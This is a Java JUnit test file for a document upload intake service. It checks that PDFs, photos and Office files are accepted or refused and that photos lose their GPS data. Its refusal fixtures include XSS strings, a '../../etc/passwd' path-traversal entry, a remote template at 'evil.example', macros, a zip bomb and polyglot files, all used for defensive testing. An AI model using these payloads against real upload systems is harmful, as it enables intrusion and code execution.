package ch.etappe.document;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import ch.etappe.kernel.Refusal;
import java.awt.Color;
import java.awt.image.BufferedImage;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.SequenceInputStream;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import javax.imageio.ImageIO;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** What comes in from anywhere, and what is kept of it. */
class IntakeTest {

    private static final long LIMIT = 1L << 20;

    @TempDir
    Path folder;

    private DocumentStore store;
    private ScanState verdict = ScanState.CLEAN;

    @BeforeEach
    void anEmptyFolder() {
        store = new DocumentStore(new DocumentProperties(
                "unused",
                new DocumentProperties.Documents(folder.toString()),
                new DocumentProperties.Clamav(null, 0, Duration.ZERO)));
    }

    static Stream<Arguments> good() {
        return Stream.of(
                Arguments.of("Entscheid.pdf", Papers.pdf(), DocumentFormat.PDF),
                Arguments.of("IMG_2034.JPG", Papers.photo(), DocumentFormat.JPEG),
                Arguments.of("brief.png", Papers.picture("png", 50, 30), DocumentFormat.PNG),
                Arguments.of("Lebenslauf.docx", Papers.word(), DocumentFormat.DOCX),
                Arguments.of(
                        "Brief.odt",
                        Papers.zip(Map.of("mimetype", "application/vnd.oasis.opendocument.text")),
                        DocumentFormat.ODT),
                Arguments.of("ohne Endung", Papers.pdf(), DocumentFormat.PDF));
    }

    @ParameterizedTest
    @MethodSource("good")
    void whatItSaysItIsIsKept(String name, byte[] content, DocumentFormat format) throws IOException {
        ReceivedFile file = take(name, content);

        assertThat(file.format()).isEqualTo(format);
        assertThat(file.size()).isEqualTo(Files.size(store.arrived(file.key())));
        assertThat(file.sha256()).isEqualTo(Fingerprint.of(store.arrived(file.key())));
        assertThat(everything()).hasSize(1);
    }

    static Stream<Arguments> bad() {
        byte[] pdf = Papers.pdf();
        byte[] zip = Papers.zip(Map.of("a.html", "<script>"));
        String external = "<Relationships><Relationship Id='1' Type='http://x/attachedTemplate'"
                + " Target='https://evil.example/t.dotm' TargetMode='External'/></Relationships>";
        return Stream.of(
                Arguments.of("leer.pdf", new byte[0], "empty"),
                Arguments.of("foto.jpg", pdf, "name"),
                Arguments.of("rechnung.pdf", Papers.photo(), "name"),
                Arguments.of("rechnung.pdf", Papers.bytes("MZ\u0090\0 this is a program"), "type"),
                Arguments.of("seite.pdf", Papers.bytes("<html><script>alert(1)</script>"), "type"),
                Arguments.of(
                        "alt.doc", Papers.bytes("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1 old word"), "type"),
                Arguments.of("archiv.docx", zip, "type"),
                Arguments.of("iphone.heic", Papers.bytes("\0\0\0\u0018ftypheic\0\0\0\0mif1heic"), "picture"),
                Arguments.of("bild.webp", Papers.bytes("RIFF\u0024\0\0\0WEBPVP8 "), "picture"),
                Arguments.of("kaputt.jpg", Papers.bytes("\u00ff\u00d8\u00ff\u00e0 no picture at all"), "picture"),
                Arguments.of("riesig.png", hugePng(), "picture"),
                Arguments.of("beides.pdf", Papers.both(pdf, zip), "unsafe"),
                Arguments.of("versteckt.pdf", Papers.both(zipEndIn(pdf), new byte[0]), "unsafe"),
                Arguments.of("seite.pdf", Papers.pdf("<html><body onload=alert(1)>"), "unsafe"),
                Arguments.of("nachher.pdf", Papers.both(pdf, Papers.bytes("<script>")), "unsafe"),
                Arguments.of("bombe.docx", Papers.bomb(), "unsafe"),
                Arguments.of("makro.docx", Papers.word(Map.of("word/vbaProject.bin", "x")), "unsafe"),
                Arguments.of("pfad.docx", Papers.word(Map.of("../../etc/passwd", "x")), "unsafe"),
                Arguments.of("fern.docx", Papers.word(Map.of("word/_rels/settings.xml.rels", external)), "unsafe"),
                Arguments.of("anhang.docx", Papers.both(Papers.word(), Papers.bytes("more")), "unsafe"),
                Arguments.of("gross.pdf", new byte[(int) LIMIT + 1], "too-large"));
    }

    @ParameterizedTest(name = "{0}: {2}")
    @MethodSource("bad")
    void whatIsWrongIsRefusedWithItsReasonAndLeavesNothing(String name, byte[] content, String reason)
            throws IOException {
        assertThatExceptionOfType(Refusal.class)
                .isThrownBy(() -> take(name, content))
                .extracting(Refusal::key)
                .isEqualTo("document.me.refusal." + reason);
        assertThat(everything()).isEmpty();
    }

    @Test
    void aPhotoIsTurnedUprightAndForgetsWhereItWasTaken() throws IOException {
        byte[] photo = Papers.photo();
        assertThat(text(photo)).contains("GPS-47.3520N");

        ReceivedFile file = take("IMG.jpg", photo);

        Path kept = store.arrived(file.key());
        assertThat(text(Files.readAllBytes(kept))).doesNotContain("GPS").doesNotContain("Exif");
        BufferedImage seen = ImageIO.read(kept.toFile());
        assertThat(seen.getWidth()).isEqualTo(40);
        assertThat(seen.getHeight()).isEqualTo(60);
        Color topLeft = new Color(seen.getRGB(5, 5));
        assertThat(topLeft.getRed()).isGreaterThan(200);
        assertThat(topLeft.getGreen()).isLessThan(60);
    }

    @Test
    void anArchiveBehindAPictureIsGone() throws IOException {
        ReceivedFile file = take("urlaub.jpg", Papers.both(Papers.photo(), Papers.zip(Map.of("virus.exe", "MZ"))));

        assertThat(text(Files.readAllBytes(store.arrived(file.key())))).doesNotContain("virus.exe");
    }

    @Test
    void aLargePictureIsMadeAsSmallAsAPageNeeds() throws IOException {
        ReceivedFile file = take("scan.png", Papers.picture("png", 9000, 60));

        assertThat(ImageIO.read(store.arrived(file.key()).toFile()).getWidth()).isEqualTo(3000);
    }

    @Test
    void anUploadThatBreaksOffLeavesNothing() throws IOException {
        InputStream half = new SequenceInputStream(new ByteArrayInputStream(Papers.pdf()), new InputStream() {
            @Override
            public int read() throws IOException {
                throw new IOException("connection reset");
            }
        });

        assertThatExceptionOfType(Refusal.class)
                .isThrownBy(() -> intake().take("a.pdf", half, LIMIT))
                .extracting(Refusal::key)
                .isEqualTo("document.me.refusal.interrupted");
        assertThat(everything()).isEmpty();
    }

    @Test
    void whatTheScannerFindsIsGoneAndWhatWaitsForItIsMarked() throws IOException {
        verdict = ScanState.INFECTED;
        assertThatExceptionOfType(Refusal.class)
                .isThrownBy(() -> take("a.pdf", Papers.pdf()))
                .extracting(Refusal::key)
                .isEqualTo("document.me.refusal.infected");
        assertThat(everything()).isEmpty();

        verdict = ScanState.WAITING;
        assertThat(take("a.pdf", Papers.pdf()).scan()).isEqualTo(ScanState.WAITING);
    }

    @Test
    void aFolderThatCannotBeWrittenIsASentence() throws IOException {
        Path file = Files.createFile(folder.resolve("arrived"));

        assertThatExceptionOfType(Refusal.class)
                .isThrownBy(() -> take("a.pdf", Papers.pdf()))
                .extracting(Refusal::key)
                .isEqualTo("document.me.refusal.disk");
        assertThat(file).exists();
    }

    private ReceivedFile take(String name, byte[] content) {
        return intake().take(name, new ByteArrayInputStream(content), LIMIT);
    }

    private Intake intake() {
        return new Intake(store, new VirusScanner() {
            @Override
            public boolean isThere() {
                return true;
            }

            @Override
            public ScanState scan(Path file) {
                return verdict;
            }
        });
    }

    private List<Path> everything() throws IOException {
        try (Stream<Path> files = Files.walk(folder)) {
            return files.filter(Files::isRegularFile).toList();
        }
    }

    private static String text(byte[] content) {
        return new String(content, StandardCharsets.ISO_8859_1);
    }

    /** A PDF whose end is repeated in the comment of an archive that hides before it. */
    private static byte[] zipEndIn(byte[] pdf) {
        String end = "PK\u0005\u0006\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\u0007\0";
        return Papers.both(pdf, Papers.bytes(end + "\n%%EOF\n"));
    }

    /** Fifty bytes that claim to be 60'000 pixels wide and high. */
    private static byte[] hugePng() {
        ByteBuffer header = ByteBuffer.allocate(17);
        header.put(Papers.bytes("IHDR")).putInt(60_000).putInt(60_000).put(new byte[] {8, 2, 0, 0, 0});
        CRC32 check = new CRC32();
        check.update(header.array());
        ByteBuffer png = ByteBuffer.allocate(45);
        png.put(Papers.bytes("\u0089PNG\r\n\u001a\n"))
                .putInt(13)
                .put(header.array())
                .putInt((int) check.getValue());
        png.putInt(0).put(Papers.bytes("IDAT")).putInt(0x35AF061E);
        return png.array();
    }
}
